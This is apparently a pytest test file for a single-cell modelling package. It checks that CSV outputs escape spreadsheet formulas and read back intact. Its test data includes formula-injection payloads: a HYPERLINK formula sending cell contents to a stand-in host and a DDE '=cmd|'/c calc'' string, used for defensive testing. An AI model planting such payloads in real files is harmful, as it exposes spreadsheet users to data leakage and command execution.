"""Spreadsheets take no name for a formula, and what is read back is what was written."""

import ast
import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from tests.conftest import save_small_checkpoint, small_vocabulary

import rankformer
from rankformer.results.csv_tables import read_csv, write_csv

SOURCE = Path(rankformer.__file__).parent
FORMULAS = (
    '=HYPERLINK("http://x.example/"&A1)', "=1+1", "+1+1", "-1+1", "-SUM(A1)", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "'=1+1", "''@x",
)  # fmt: skip
PLAIN = (
    "CD4+ T", "-1.5", "+3", "-1e-05", "-.5", "B-cell", "AAACCTGAGAAACC-1", "-", "+", "'", "'a", "",
    "x=1", " =1", "a\r=1+1", "a\n=1+1", 'a"\r=1+1',
)  # fmt: skip


def is_formula_to_a_spreadsheet(field):
    """As OWASP lists them, of what is more than one sign and no number."""
    begins = field[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", *"\uff1d\uff0b\uff0d\uff20")
    try:
        float(field)
    except ValueError:
        return begins and len(field) > 1
    return False


def fields_of(file):
    with file.open(newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


def test_formulas_are_texts_and_numbers_are_numbers(tmp_path):
    names = [*FORMULAS, *PLAIN]
    table = pd.DataFrame({
        "=cell": names, "kind": pd.Categorical(names), "number": np.arange(len(names)) - 1.5,
        "whole": -np.arange(len(names)),
    })  # fmt: skip
    write_csv(table, tmp_path / "t.csv")
    header, *rows = fields_of(tmp_path / "t.csv")
    assert header == ["'=cell", "kind", "number", "whole"]
    for row, name in zip(rows, names, strict=True):
        assert row[0] == row[1] == (f"'{name}" if name in FORMULAS else name)
    assert [row[2] for row in rows][:2] == ["-1.5", "-0.5"]
    again = read_csv(tmp_path / "t.csv", keep_default_na=False)
    assert list(again["=cell"]) == names
    assert list(again["kind"]) == names
    np.testing.assert_array_equal(again[["number", "whole"]], table[["number", "whole"]])


# Without what makes a field a part of another one, or a number where all are such.
TEXTS = st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0"), min_size=1)


@given(names=st.lists(st.one_of(TEXTS, TEXTS.map(lambda text: f"={text}")), min_size=1))
def test_whatever_is_written_is_read_back(names, tmp_path_factory):
    file = tmp_path_factory.mktemp("csv") / "t.csv"
    write_csv(pd.DataFrame({"cell": ["a", *names]}), file)
    assert not any(is_formula_to_a_spreadsheet(each) for row in fields_of(file) for each in row)
    again = read_csv(file, keep_default_na=False, dtype=str)
    assert [each.replace("\r\n", "\n").replace("\r", "\n") for each in again["cell"]] == [
        each.replace("\r\n", "\n").replace("\r", "\n") for each in ["a", *names]
    ]


# finetuning/predict.py: genes and symbols of the model, still to be moved here.
OTHER_WRITERS = {"results/csv_tables.py"}
# A hash of a table, which is no file.
HASHES = {"finetuning/labelled_data.py"}


def test_all_tables_are_written_in_one_place():
    def calls(file):
        tree = ast.walk(ast.parse(file.read_text()))
        return {getattr(each.func, "attr", None) for each in tree if isinstance(each, ast.Call)}

    found = {str(each.relative_to(SOURCE)) for each in SOURCE.rglob("*.py")
             if calls(each) & {"to_csv", "DictWriter", "writerow", "writerows"}}  # fmt: skip
    assert found <= OTHER_WRITERS | HASHES


@pytest.fixture
def cells(tmp_path, small_adata, vocabulary):
    small_adata.obs_names = [f"=cmd|'/c calc'!A{i}" for i in range(30)]
    small_adata.obs["cell_type"] = np.where(np.arange(30) % 2, "-1+cmd()", "@B")
    small_adata.var_names = ["+ZZ0+1", *small_adata.var_names[1:]]
    small_adata.write_h5ad(tmp_path / "cells.h5ad")
    save_small_checkpoint(tmp_path / "model", vocabulary)
    return tmp_path


@pytest.fixture
def vocabulary():
    return small_vocabulary()


WRITERS = {
    "embeddings": ("embed cells.h5ad -o out.csv -m model --device cpu", "out.csv"),
    "labels": (
        "annotate cells.h5ad -r cells.h5ad --label cell_type -o out.csv -m model --device cpu",
        "out.csv",
    ),
    "gene report": (
        "tokenize cells.h5ad -o out -m model --gene-report genes.csv", "genes.csv",
    ),
}  # fmt: skip


@pytest.mark.parametrize("what", WRITERS)
def test_what_commands_write_is_guarded(what, cells, command, monkeypatch):
    words, name = WRITERS[what]
    monkeypatch.chdir(cells)
    status, _, said = command(*words.split())
    assert status == 0, said
    fields = [each for row in fields_of(cells / name) for each in row]
    # What the cells and genes are called stands there, and begins no formula.
    assert any(each.startswith(("'=cmd", "'+ZZ0")) for each in fields)
    assert not any(is_formula_to_a_spreadsheet(each) for each in fields)
